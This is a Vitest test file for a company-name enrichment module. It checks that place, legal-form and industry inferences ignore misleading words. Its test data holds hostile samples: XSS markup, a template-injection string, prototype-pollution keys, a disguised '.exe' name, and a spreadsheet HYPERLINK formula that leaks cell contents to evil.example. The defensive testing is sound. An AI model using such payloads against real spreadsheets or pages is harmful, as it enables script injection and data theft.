// Enrichment on hostile and odd company names (issue 9): inferences come from whole words and real
// legal forms only. Known answers, each with the misfire it guards against:
// - a company ending names a place only when it has 4+ letters or is UK/US/USA/UAE (`Click me` was
//   read as Maine, so the hostile `=HYPERLINK(…,"Click me")` person was placed in the United States);
// - a legal form of up to 3 letters counts only in its own case or capitals (`Day Spa` is not an
//   Italian S.p.A., `Nordic As` not a Norwegian AS);
// - industry keywords match whole words (`Barclays` is no bar, `Clubhouse` no club, `Spain` no spa,
//   `Inner` no inn), and a `*suffix` needs a compound's first part (`Samt` is no `*amt` office).
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { createIndustryClassifier, enrichPeople, type Gazetteer } from '../../../src/core/enrich';
import { buildPhraseMatcher } from '../../../src/core/enrich/phrase-matcher';
import type { Person } from '../../../src/core/types';
import { loadGazetteer } from '../../../src/io/gazetteer';
import { importFiles } from '../../../src/io/import';

let g: Gazetteer;
beforeAll(async () => {
  g = await loadGazetteer();
}, 60_000);

const ref = { file: 'test.csv', line: 2 };
function person(company: string, position = ''): Person {
  const p: Person = {
    id: company,
    name: company,
    firstName: company,
    lastName: '',
    owners: ['owner:a'],
    connectedOn: {},
    attributes: {},
    mergedBy: [],
    caveats: [],
    refs: [],
  };
  p.company = { value: company, source: 'export', ref };
  if (position) p.position = { value: position, source: 'export', ref };
  return p;
}

/** [company, title] → [country code or '-', industry id or '-'] with no network context. */
function enrich(company: string, position = ''): [string, string] {
  const p = person(company, position);
  enrichPeople([p], g, { useNetworkContext: false });
  return [p.place?.value.country ?? '-', p.industry?.value ?? '-'];
}

describe('hostile names (test/fixtures/hostile/Connections.csv)', () => {
  it('infers no place and no industry from markup, formulas or prototype keys', async () => {
    const bytes = readFileSync('test/fixtures/hostile/Connections.csv');
    const r = await importFiles([{ path: 'hostile/Connections.csv', bytes: new Uint8Array(bytes) }]);
    const people = r.dataset.connections.map((c) => {
      const p = person(c.company ?? '', c.position ?? '');
      p.name = `${c.firstName} ${c.lastName}`;
      return p;
    });
    expect(people).toHaveLength(12);
    enrichPeople(people, g, { useNetworkContext: false });
    const got = Object.fromEntries(
      people.map((p) => [p.name, [p.place?.value.country ?? '-', p.industry?.value ?? '-']]),
    );
    const none = ['-', '-'];
    expect(got).toEqual({
      '<img src=x onerror=alert(1)> Markup': none, // company =HYPERLINK("…","Click me"): not Maine
      '"><script>alert(1)</script> Breakout': none,
      'Eve Offsite': none,
      'Mallory \u202efdp.exe': none,
      'Ze\u200bro Wi\u200bdth\u200d': none,
      'Tab Start': none, // Tabbed Corp, Carriage Return (read since the carriage-return fix)
      'Look Alike': none,
      'User Info': none,
      'Data Url': none,
      "{{constructor.constructor('alert(1)')()}} Template": none,
      '__proto__ constructor': none,
      'Ana Safe': ['-', 'accounting'], // Harborline Tax Partners LLP: LLP names no country
    });
  });
});

describe('company endings as places', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '-'],
    ['Home Me', '-'],
    ['Iron Man', '-'],
    ['Class Act', '-'],
    ['Acme PA', '-'],
    ['Acme UK', 'GB'],
    ['Acme USA', 'US'],
    ['Acme Texas', 'US'],
    ['Acme Brasil', 'BR'],
  ])('%s → %s', (company, country) => expect(enrich(company)[0]).toBe(country));
});

describe('legal forms are real legal forms', () => {
  const industries = createIndustryClassifier();
  it.each([
    ['Day Spa', 'day spa', []],
    ['Day Spa Co', 'day spa', []],
    ['Ferrero SpA', 'ferrero', ['IT', 'CL']],
    ['Ferrero S.p.A.', 'ferrero', ['IT', 'CL']],
    ['FERRERO SPA', 'ferrero', ['IT', 'CL']],
    ['Nordic AS', 'nordic', ['NO']],
    ['Nordic As', 'nordic as', []],
    ['Volvo AB', 'volvo', ['SE']],
    ['Abs Ab', 'abs ab', []],
    ['Smith & Co', 'smith', []],
    ['Müller Maschinenbau GmbH', 'muller maschinenbau', ['DE', 'AT', 'CH']],
    ['acme gmbh', 'acme', ['DE', 'AT', 'CH']],
  ] as const)('%s → name %s, countries %j', (company, name, countries) => {
    const r = industries.splitLegalForm(company);
    expect(r.name).toBe(name);
    expect(r.countries).toEqual(countries);
  });
  it('does not place a day spa in Italy', () => expect(enrich('Day Spa Co', 'Manager')).toEqual(['-', 'hospitality']));
});

describe('industry keywords match whole words', () => {
  it.each([
    ['Barclays', 'Analyst', 'financial-services'],
    ['Barnes & Noble', 'Clerk', '-'],
    ['Clubhouse Media', 'Producer', 'media'],
    ['Spain Foods', 'Manager', 'food-beverage'],
    ['Inner Circle', 'Manager', '-'],
    ['Innovate Labs', 'Manager', 'software'],
    ["Joe's Bar", 'Manager', 'hospitality'],
    ['Holiday Inn Express', 'Manager', 'hospitality'],
    ['Country Club of Detroit', 'Manager', 'hospitality'],
    ['The Bar Association', 'Counsel', 'legal'],
    ['Law Society of Scotland', 'Solicitor', 'legal'],
    ['Lions Club', 'Volunteer', 'non-profit'],
  ])('%s / %s → %s', (company, title, industry) => expect(enrich(company, title)[1]).toBe(industry));

  it('reads a *suffix only after the first part of a compound', () => {
    const m = buildPhraseMatcher([['government', ['*amt']]]);
    expect(m.match(['finanzamt']).map((h) => h.key)).toEqual(['government']);
    expect(m.match(['bauamt']).map((h) => h.key)).toEqual(['government']);
    expect(m.match(['samt'])).toEqual([]);
    expect(m.match(['amt'])).toEqual([]);
  });
});
